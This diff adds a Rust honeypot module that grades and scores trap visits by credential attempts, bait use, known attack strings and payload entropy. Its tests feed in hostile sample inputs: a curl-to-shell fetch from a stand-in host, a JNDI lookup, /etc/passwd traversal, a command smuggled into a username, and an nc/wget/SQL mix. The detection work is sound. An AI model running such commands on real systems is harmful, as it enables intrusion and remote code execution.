@@ -1,0 +1,182 @@
+//! Visits: what a trap session amounts to.
+
+use crate::{
+    Verdict, entropy_millibits, entropy_window_max_millibits,
+    pattern::{Family, Found, Patterns, describe},
+};
+use alloc::{format, string::String, vec::Vec};
+use honeymesh_types::{Grade, Reasons, Scope, Signs, Transport, Visit};
+
+/// The highest score.
+const SCORE_MAX: u8 = 100;
+/// A completed handshake.
+const SCORE_HANDSHAKE: u8 = 5;
+/// It spoke.
+const SCORE_PAYLOAD: u8 = 10;
+/// Bytes that look encrypted or packed.
+const SCORE_ENTROPY: u8 = 15;
+/// From here on 256 bytes look encrypted or packed: text stays below 6,000, random bytes reach 7,170.
+const ENTROPY_HIGH_MILLIBITS: u16 = 6_900;
+/// Below this many bytes entropy says nothing.
+const ENTROPY_BYTES_MIN: usize = crate::ENTROPY_WINDOW_BYTES;
+
+/// What each sign of a trap protocol adds to the score, and what it means.
+const SIGNS: [(Signs, u8, &str); 4] = [
+    (Signs::BAIT, 70, "used bait that only a thief can know"),
+    (Signs::RULE, 40, "matched a rule of the trap"),
+    (Signs::CREDENTIALS, 30, "tried credentials"),
+    (Signs::MALFORMED, 10, "broke the protocol"),
+];
+
+/// Judges visits. Holds the automaton of known attack strings, so build it once.
+#[derive(Default)]
+pub struct Detector {
+    patterns: Patterns,
+}
+
+impl Detector {
+    /// A detector with all known attack strings.
+    #[must_use]
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Judges what a trap saw. A TCP visit is a finished handshake, so it is never `spoofable`; a UDP one always is, since
+    /// anybody can write any source on a datagram.
+    pub fn judge_visit(&self, visit: &Visit) -> Verdict {
+        let found = self.found(visit);
+        let grade = grade(visit, &found);
+        Verdict {
+            grade,
+            reasons: Reasons::TRAP,
+            scope: if grade == Grade::Spoofable { Scope::Dark } else { Scope::All },
+            score: score(visit, &found),
+            entropy_millibits: entropy_millibits(&visit.payload),
+            findings: findings(visit, &found),
+        }
+    }
+
+    fn found(&self, visit: &Visit) -> Found {
+        let mut found = Found::new();
+        self.patterns.search(&visit.payload, &mut found);
+        visit.fields.values().for_each(|value| self.patterns.search(value.as_bytes(), &mut found));
+        found
+    }
+}
+
+fn grade(visit: &Visit, found: &Found) -> Grade {
+    let hostile_signs = Signs::CREDENTIALS | Signs::BAIT | Signs::RULE;
+    if visit.transport == Transport::Udp {
+        Grade::Spoofable
+    } else if visit.signs.intersects(hostile_signs) || found.keys().any(|family| family.is_exploit()) {
+        Grade::Hostile
+    } else if visit.bytes > 0 || !visit.payload.is_empty() {
+        Grade::Payload
+    } else {
+        Grade::Handshake
+    }
+}
+
+fn score(visit: &Visit, found: &Found) -> u8 {
+    let base = if visit.bytes > 0 { SCORE_PAYLOAD } else { SCORE_HANDSHAKE };
+    let signs = SIGNS.iter().filter(|(sign, ..)| visit.signs.contains(*sign)).map(|(_, weight, _)| *weight);
+    let families = found.keys().map(|family| family.weight());
+    let entropy = is_dense(visit).then_some(SCORE_ENTROPY);
+    signs.chain(families).chain(entropy).fold(base, u8::saturating_add).min(SCORE_MAX)
+}
+
+fn findings(visit: &Visit, found: &Found) -> Vec<String> {
+    let signs = SIGNS.iter().filter(|(sign, ..)| visit.signs.contains(*sign)).map(|(_, _, words)| String::from(*words));
+    let families = found.iter().map(|(family, string): (&Family, _)| describe(*family, string));
+    let dense = is_dense(visit).then(|| dense_words(visit));
+    signs.chain(families).chain(dense).collect()
+}
+
+fn is_dense(visit: &Visit) -> bool {
+    visit.payload.len() >= ENTROPY_BYTES_MIN && entropy_window_max_millibits(&visit.payload) >= ENTROPY_HIGH_MILLIBITS
+}
+
+fn dense_words(visit: &Visit) -> String {
+    let millibits = entropy_window_max_millibits(&visit.payload);
+    format!("looks encrypted or packed: {}.{:02} bits a byte", millibits / 1_000, millibits % 1_000 / 10)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use alloc::{collections::BTreeMap, vec};
+    use honeymesh_types::{Now, SessionId};
+
+    fn visit(payload: &[u8], signs: Signs) -> Visit {
+        Visit {
+            at: Now::default(),
+            session: SessionId(1),
+            trap: "t".into(),
+            service: "script".into(),
+            source: "203.0.113.7:4711".parse().unwrap(),
+            local: "192.0.2.1:23".parse().unwrap(),
+            transport: Transport::Tcp,
+            payload: payload.to_vec(),
+            bytes: payload.len() as u64,
+            signs,
+            fields: BTreeMap::new(),
+        }
+    }
+
+    #[test]
+    fn the_grade_follows_what_was_said() {
+        let cases: [(&[u8], Signs, Grade); 9] = [
+            (b"", Signs::empty(), Grade::Handshake),
+            (b"", Signs::SILENT, Grade::Handshake),
+            (b"hello", Signs::empty(), Grade::Payload),
+            (b"\x16\x03\x01", Signs::MALFORMED, Grade::Payload),
+            (b"GET / HTTP/1.1\r\nUser-Agent: masscan/1.3\r\n", Signs::empty(), Grade::Payload),
+            (b"USER root\r\nPASS x\r\n", Signs::CREDENTIALS, Grade::Hostile),
+            (b"x", Signs::RULE, Grade::Hostile),
+            (b"x", Signs::BAIT, Grade::Hostile),
+            (b"GET /../../etc/passwd HTTP/1.1", Signs::empty(), Grade::Hostile),
+        ];
+        for (payload, signs, expected) in cases {
+            let verdict = Detector::new().judge_visit(&visit(payload, signs));
+            assert_eq!((verdict.grade, verdict.scope), (expected, Scope::All), "{payload:?} {signs:?}");
+        }
+    }
+
+    #[test]
+    fn a_datagram_is_forgeable_whatever_it_says() {
+        let udp = Visit { transport: Transport::Udp, ..visit(b"${jndi:ldap://x}", Signs::BAIT) };
+        let verdict = Detector::new().judge_visit(&udp);
+        assert_eq!((verdict.grade, verdict.scope), (Grade::Spoofable, Scope::Dark));
+    }
+
+    #[test]
+    fn findings_say_what_raised_the_score() {
+        let verdict = Detector::new().judge_visit(&visit(b"curl http://198.51.100.9/i | sh", Signs::CREDENTIALS));
+        assert_eq!(verdict.findings, ["tried credentials", "fetches a program: curl http", "feeds a shell: | sh"]);
+        assert_eq!(verdict.score, 100);
+        let quiet = Detector::new().judge_visit(&visit(b"", Signs::empty()));
+        assert_eq!((quiet.score, quiet.findings.len()), (SCORE_HANDSHAKE, 0));
+    }
+
+    #[test]
+    fn fields_are_searched_like_the_payload() {
+        let mut ssh = visit(b"", Signs::empty());
+        ssh.fields.insert("username".into(), "$(whoami)".into());
+        assert_eq!(Detector::new().judge_visit(&ssh).grade, Grade::Hostile);
+    }
+
+    #[test]
+    fn dense_bytes_score_and_short_ones_do_not() {
+        let dense: Vec<u8> = (0..=255).collect();
+        let verdict = Detector::new().judge_visit(&visit(&dense, Signs::empty()));
+        assert_eq!(verdict.findings, vec!["looks encrypted or packed: 8.00 bits a byte"]);
+        assert_eq!((verdict.score, verdict.entropy_millibits), (SCORE_PAYLOAD + SCORE_ENTROPY, 8_000));
+        assert!(Detector::new().judge_visit(&visit(&dense[..200], Signs::empty())).findings.is_empty());
+    }
+
+    #[test]
+    fn the_score_is_bounded() {
+        let all: Vec<u8> = [&b"${jndi: nc -e /etc/passwd ../ wget http | sh base64 -d union select "[..], &[0x90; 32]].concat();
+        assert_eq!(Detector::new().judge_visit(&visit(&all, Signs::all())).score, 100);
+    }
+}
